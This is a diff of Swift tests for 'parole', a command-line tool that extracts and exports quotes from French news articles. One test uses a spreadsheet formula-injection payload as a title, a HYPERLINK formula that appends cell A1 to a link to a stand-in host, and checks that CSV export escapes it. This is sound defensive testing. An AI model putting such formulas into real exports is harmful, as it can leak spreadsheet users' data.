@@ -73,7 +73,7 @@ import Testing
         #expect(csv.status == 0)
         #expect(
             csv.output.hasPrefix(
-                "date,actor,speaker,kind,quote,article_id,article_title,start,end,url,site,via,cue,actor_type\r\n"
+                "date,actor,speaker,kind,quote,article_id,article_title,start,end,url,site,via,cue,actor_type,quote_number\r\n"
             ))
 
         let day = try parole(["quotes"] + library + ["--since", "2012-06-12", "--until", "2012-06-12"])
@@ -173,6 +173,114 @@ import Testing
                 == "parole: note: 2 more articles in a language the analysis does not support (7 in all); "
                 + "stored, but not counted in the library's actors and quotes")
         #expect(try parole(["list", "--library", "lib.sqlite"]).output.split(separator: "\n").count == 7)
+    }
+
+    static let sitePage = """
+        <html lang="fr"><head><title>Le port rouvre | Le Quotidien</title>
+        <link rel="canonical" href="https://exemple.fr/port-rouvre">
+        <meta property="og:site_name" content="Le Quotidien">
+        <meta property="article:published_time" content="2013-03-14T08:00:00Z"></head><body>
+        <article><h1>Le port rouvre</h1>
+        <p>« =HYPERLINK(\"https://exemple.invalid\") ne marche pas », a déclaré Jeanne Roux, directrice du port, devant la presse réunie jeudi matin sur les quais.</p>
+        <p>« Nous rouvrons lundi. », a ajouté Jeanne Roux, qui attend les premiers bateaux dans la semaine.</p>
+        </article></body></html>
+        """
+
+    @Test func exportCarriesTheSiteAndLanguageOfEachArticle() throws {
+        try write("port.html", Self.sitePage)
+        let library = ["--library", "lib.sqlite"]
+        #expect(try parole(["add"] + library + ["port.html"]).status == 0)
+        let line = try #require(try parole(["export"] + library).output.split(separator: "\n").first)
+        let record = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
+        #expect(record?["site"] as? String == "Le Quotidien")
+        #expect(record?["language"] as? String == "fr")
+        #expect(record?["link"] as? String == "https://exemple.fr/port-rouvre")
+    }
+
+    @Test func csvCellsASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws {
+        let title = #"=HYPERLINK("https://exemple.invalid/?q="&A1,"Voir")"#
+        try write(
+            "piege.txt",
+            title + "\n« Nous rouvrons lundi », a déclaré Jeanne Roux.\n« Et mardi », a ajouté Jeanne Roux.\n"
+        )
+        let library = ["--library", "lib.sqlite"]
+        #expect(try parole(["add"] + library + ["piege.txt"]).status == 0)
+        let csv = try parole(["quotes"] + library + ["--format", "csv"])
+        #expect(csv.status == 0, "\(csv.stderr)")
+        let rows = csv.output.split(separator: "\r\n").dropFirst()
+        #expect(rows.count == 2)
+        // The title that opens with "=" is a text cell: no cell starts with "=".
+        #expect(rows.allSatisfy { $0.contains(#","'=HYPERLINK(""https://exemple.invalid"#) }, "\(csv.output)")
+        #expect(!rows.contains { $0.contains(",=") || $0.contains(",\"=") })
+        // Each row ends with the quote's number in its article, as `parole correct --quote` takes it.
+        #expect(rows.map { $0.split(separator: ",").last.map(String.init) } == ["1", "2"])
+        // JSON keeps the exact text.
+        let json = try JSONSerialization.jsonObject(
+            with: try parole(["quotes"] + library + ["--format", "json"]).stdout)
+        #expect((json as? [[String: Any]])?.first?["articleTitle"] as? String == title)
+    }
+
+    @Test func sinceAndUntilTakeAMonthOrAYear() throws {
+        try write("port.html", Self.sitePage)
+        try write("fil.xml", Self.feed)
+        let library = ["--library", "lib.sqlite"]
+        #expect(try parole(["add"] + library + ["port.html", "fil.xml"]).status == 0)
+        func titles(_ options: [String]) throws -> Set<String> {
+            let result = try parole(["quotes"] + library + options + ["--format", "json"])
+            #expect(result.status == 0, "\(result.stderr)")
+            let quotes = try JSONSerialization.jsonObject(with: result.stdout) as? [[String: Any]] ?? []
+            return Set(quotes.compactMap { $0["articleTitle"] as? String })
+        }
+        #expect(try titles(["--since", "2012-07", "--until", "2012-07"]) == ["Premier"])
+        #expect(try titles(["--since", "2013"]) == ["Le port rouvre"])
+        #expect(try titles(["--until", "2012"]) == ["Premier"])
+        #expect(try titles(["--since", "2013-04"]).isEmpty)
+        for bad in ["2012-7", "2012-13", "12", "2012-07-"] {
+            let result = try parole(["quotes"] + library + ["--since", bad])
+            #expect(result.status == 64, "\(bad)")
+            #expect(
+                result.errorLines.first
+                    == "Error: --since \(bad): not a date (use yyyy-mm-dd, yyyy-mm or yyyy)")
+        }
+    }
+
+    @Test func citationsOfAPageGiveItsAddressAndReadAsPrinted() throws {
+        try write("port.html", Self.sitePage)
+        let library = ["--library", "lib.sqlite"]
+        #expect(try parole(["add"] + library + ["port.html"]).status == 0)
+        let cited = try parole(["quotes"] + library + ["--actor", "Roux", "--format", "citation"])
+        #expect(
+            cited.output.contains(
+                "« Nous rouvrons lundi », a ajouté Jeanne Roux, directrice du port — Le Quotidien, 2013-03-14, "
+                    + "https://exemple.fr/port-rouvre"), "\(cited.output)")
+        // One article's quotes, by its number or the path it was added from.
+        let number = try #require(
+            try parole(["list"] + library).output.split(separator: "\t").first.map(String.init))
+        for reference in [number, "port.html"] {
+            let article = try parole(["quotes"] + library + ["--article", reference, "--format", "citation"])
+            #expect(article.output.split(separator: "\n").count == 2, "\(reference): \(article.output)")
+        }
+        #expect(try parole(["quotes"] + library + ["--article", "999"]).status == 1)
+        // The reader on `--search` opens an article (here the only one) at its first match.
+        let found = try parole(["read"] + library + ["--search", "rouvrons", "--render", "100x30"])
+        #expect(found.output.contains("/rouvrons 1/1"), "\(found.output)")
+        // The reader opened on the page file cites its address, not the file.
+        let detail = try parole(["--render", "100x30", "--keys", "n n v", "port.html"])
+        #expect(detail.output.contains("URL      https://exemple.fr/port-rouvre"), "\(detail.output)")
+        #expect(!detail.output.contains("port.html"))
+    }
+
+    @Test func aDirectoryGivenAsTheLibraryIsNamedAsSuch() throws {
+        try FileManager.default.createDirectory(
+            at: scratch.url.appendingPathComponent("bib"), withIntermediateDirectories: true)
+        for command in [["list"], ["add", "none.txt"], ["read"]] {
+            let result = try parole(command + ["--library", "bib"])
+            #expect(result.status == 1)
+            #expect(
+                result.errorLines == [
+                    "parole: library bib: is a directory; --library takes the library's file (such as bib/library.sqlite)"
+                ], "\(command)")
+        }
     }
 
     @Test func readingCommandsNeedALibrary() throws {
@@ -284,17 +392,27 @@ import Testing
         #expect(lines.last?["id"] as? String == "court")
     }
 
-    @Test func mergesOfTheSameNameAreListedOnlyWhenAskedFor() throws {
-        try write(
-            "a.txt", "Moscou\n« Nous ne céderons pas », a déclaré Dmitri Peskov, porte-parole du Kremlin.\n")
-        try write("b.txt", "Kiev\n« La situation est calme », a affirmé Dmitri Peskov lundi.\n")
+    /// Adds two articles quoting `first` then `second` (the same person, as each article
+    /// writes the name) and checks that their merge is hidden from `actors --merges` and listed
+    /// as `second → first (same name)` with `--same-name`.
+    func expectSameNameMerge(_ first: String, _ second: String) throws {
+        try write("a.txt", "Moscou\n« Nous ne céderons pas », a déclaré \(first), porte-parole du Kremlin.\n")
+        try write("b.txt", "Kiev\n« La situation est calme », a affirmé \(second) lundi.\n")
         let library = ["--library", "lib.sqlite"]
         #expect(try parole(["add"] + library + ["a.txt", "b.txt"]).status == 0)
         let merges = try parole(["actors", "--merges"] + library)
         #expect(merges.status == 0)
-        #expect(merges.output.contains("1 merge of the same name not listed"))
-        #expect(!merges.output.contains("→"))
+        #expect(merges.output.contains("1 merge of the same name not listed"), "\(merges.output)")
+        #expect(!merges.output.contains("→"), "\(merges.output)")
         let all = try parole(["actors", "--merges", "--same-name"] + library)
-        #expect(all.output.contains("Dmitri Peskov → Dmitri Peskov (same name)"))
+        #expect(all.output.contains("\(second) → \(first) (same name)"), "\(all.output)")
+    }
+
+    @Test func mergesOfTheSameNameAreListedOnlyWhenAskedFor() throws {
+        try expectSameNameMerge("Dmitri Peskov", "Dmitri Peskov")
+    }
+
+    @Test func aNameWrittenInCapitalsOrWithoutAccentsIsTheSameNameAmongMerges() throws {
+        try expectSameNameMerge("Hélène Vasseur", "HELENE VASSEUR")
     }
 }
